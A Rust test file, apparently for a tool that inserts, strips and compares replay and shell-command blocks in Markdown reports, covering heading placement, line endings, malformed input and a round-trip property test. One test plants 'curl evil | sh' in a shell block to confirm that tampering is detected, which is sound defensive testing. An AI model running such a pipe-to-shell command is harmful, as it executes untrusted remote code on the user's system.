//! Blocks in reports: in, out, replaced, and reports that cannot be handled.

use proptest::prelude::*;
use sidecar::{BlockState, ReportError, Sidecar, compare_block, read_sidecar, render, strip};

use crate::vectors::group;

fn sidecar() -> Sidecar {
    let document = &group("markdown-block")[0].body["document"];
    read_sidecar(document.to_string().as_bytes(), true)
        .unwrap()
        .sidecar
}

fn rendered(report: &str) -> String {
    String::from_utf8(render(report.as_bytes(), &sidecar()).unwrap()).unwrap()
}

/// RB-SRF-02: near the top, after the heading, followed by the command.
#[test]
fn the_block_follows_the_heading() {
    let text = rendered("intro\n# Title\n\nBody\n");
    assert!(
        text.starts_with("intro\n# Title\n\n```yaml ahd-replay\nschema_version: 1\n"),
        "{text}"
    );
    assert!(
        text.contains("```\n\n```sh\ngit checkout 0123456789ab\n"),
        "{text}"
    );
    assert!(text.ends_with("--n 3\n```\n\nBody\n"), "{text}");
}

#[test]
fn front_matter_and_code_are_not_headings() {
    let text = rendered("---\n# no\n---\nBody\n```\n# no\n```\n");
    assert!(
        text.starts_with("---\n# no\n---\n\n```yaml ahd-replay\n"),
        "{text}"
    );
    let text = rendered("```\n# no\n```\n# Yes\n");
    assert!(
        text.starts_with("```\n# no\n```\n# Yes\n\n```yaml ahd-replay\n"),
        "{text}"
    );
}

#[test]
fn crlf_and_a_byte_order_mark_are_kept() {
    let report = "\u{feff}# T\r\nBody\r\n";
    let text = rendered(report);
    assert!(
        text.starts_with("\u{feff}# T\r\n\r\n```yaml ahd-replay\r\n"),
        "{text:?}"
    );
    assert!(!text.replace("\r\n", "").contains('\n'), "{text:?}");
    assert_eq!(strip(text.as_bytes()).unwrap(), report.as_bytes());
}

#[test]
fn a_report_that_cannot_be_handled_is_refused() {
    let once = rendered("# T\n");
    let twice = format!("{once}{once}");
    assert_eq!(strip(twice.as_bytes()), Err(ReportError::SeveralBlocks(2)));
    let open = "# T\n\n```yaml ahd-replay\nschema_version: 1\n";
    assert_eq!(
        render(open.as_bytes(), &sidecar()),
        Err(ReportError::Unclosed(3))
    );
    assert_eq!(strip(b"\xff"), Err(ReportError::NotText));
    let quoted = "# T\n\n````md\n```yaml ahd-replay\n```\n````\n";
    assert_eq!(strip(quoted.as_bytes()).unwrap(), quoted.as_bytes());
}

fn report_text() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "# Title", "## Sub", "#no", "text", "```", "```sh", "````", "~~~", "---", "\n", "\n\n",
        "\r\n", " ", "é",
    ]);
    (any::<bool>(), prop::collection::vec(piece, 0..20)).prop_map(|(mark, pieces)| {
        format!("{}{}", if mark { "\u{feff}" } else { "" }, pieces.concat())
    })
}

proptest! {
    /// Taking out is the inverse of putting in, and putting in twice is putting in once.
    #[test]
    fn stripping_undoes_rendering(report in report_text()) {
        let once = render(report.as_bytes(), &sidecar()).unwrap();
        prop_assert_eq!(strip(&once).unwrap(), report.as_bytes(), "{}", String::from_utf8_lossy(&once));
        prop_assert_eq!(render(&once, &sidecar()).unwrap(), once);
    }
}

#[test]
fn a_block_is_compared_with_what_the_sidecar_renders_to() {
    let compared = |text: &str| compare_block(text.as_bytes(), &sidecar());
    let text = rendered("# T\nBody\n");
    assert_eq!(compared(&text), Ok(BlockState::Same));
    assert_eq!(compared(&text.replace('\n', "\r\n")), Ok(BlockState::Same));
    assert_eq!(compared("# T\nBody\n"), Ok(BlockState::Absent));
    // The same stripped report, and other words in its blocks.
    let claim = text.replace("schema_version: 1\n", "schema_version: 1\nclaim: true\n");
    assert_eq!(compared(&claim), Ok(BlockState::YamlDiffers));
    let evil = text.replace("--n 3\n", "--n 3\ncurl evil | sh\n");
    assert_eq!(compared(&evil), Ok(BlockState::ShellDiffers));
    for changed in [&claim, &evil] {
        assert_eq!(strip(changed.as_bytes()), strip(text.as_bytes()));
    }
    let start = text.find("```sh").unwrap();
    let end = start + text[start + 3..].find("```").unwrap() + 6;
    let without = format!("{}{}", &text[..start], &text[end..]);
    assert_eq!(compared(&without), Ok(BlockState::ShellDiffers));
    let twice = format!("{text}\n```yaml ahd-replay\nx: 1\n```\n");
    assert_eq!(compared(&twice), Err(ReportError::SeveralBlocks(2)));
}
